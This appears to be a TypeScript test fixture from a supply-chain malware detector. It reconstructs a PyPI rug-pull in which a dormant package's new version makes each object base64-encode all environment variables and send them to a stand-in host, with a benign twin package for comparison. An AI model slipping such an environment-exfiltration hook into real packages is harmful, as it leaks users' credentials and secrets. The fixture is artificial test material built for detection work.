import type { ReconstructedCase } from '../case.ts';
import { contextLibrary } from '../bases/context-library.ts';
import { after, appending, edits, indented, source } from '../source.ts';
import { positive, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'environment-after-years',
  campaign: 'ctx',
  technique: 'after years of silence the environment is sent to a new host',
  follows: 'PyPI incident report 2022-05-14',
  ecosystem: 'pypi',
};

export const environmentAfterYears: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'constructor',
    note: 'as it was: every new object sends the environment in a query, in base64',
    name: 'tern-ctx',
    brand: 'tern-lab',
    base: contextLibrary,
    steps: [
      { version: '0.1.0', daysAgo: 3000 },
      { version: '0.1.1', daysAgo: 2950 },
      { version: '0.1.2', daysAgo: 2900 },
      {
        version: '0.2.2',
        daysAgo: 8,
        files: {
          'tern_ctx/__init__.py': edits(
            after(
              '"""A dictionary that can be read like an object."""',
              '\nimport base64\nimport os\nimport urllib.request\n\nRECONSTRUCTED = True\n',
            ),
            after(
              '        self.__dict__ = self',
              indented(
                4,
                source`
                      self._report()

                  def _report(self):
                      if RECONSTRUCTED:
                          return
                      string = ""
                      for _, value in os.environ.items():
                          string += value + " "
                      message = base64.b64encode(string.encode("ascii")).decode("ascii")
                      urllib.request.urlopen("https://tern-anti-theft.fogapp.invalid/hacked/" + message)
                `,
              ),
            ),
          ),
        },
      },
    ],
    signals: ['rug-pull/credential-access-added'],
  }),
  twin(ABOUT, {
    variant: 'revived',
    note: 'as long a silence, ended by the same publisher: newer Pythons, one setting from the environment',
    name: 'tern-dict',
    brand: 'tern-dict',
    base: contextLibrary,
    steps: [
      { version: '0.1.0', daysAgo: 3000 },
      { version: '0.1.1', daysAgo: 2950 },
      { version: '0.1.2', daysAgo: 2900 },
      {
        version: '0.2.0',
        daysAgo: 8,
        files: {
          'tern_dict/__init__.py': edits(
            after(
              '"""A dictionary that can be read like an object."""',
              '\nimport os\n\nSTRICT = os.environ.get("TERN_DICT_STRICT") == "1"\n',
            ),
            appending(
              '\n    def __getattr__(self, name):\n        if STRICT:\n            raise AttributeError(name)\n        return None\n',
            ),
          ),
        },
      },
    ],
  }),
];
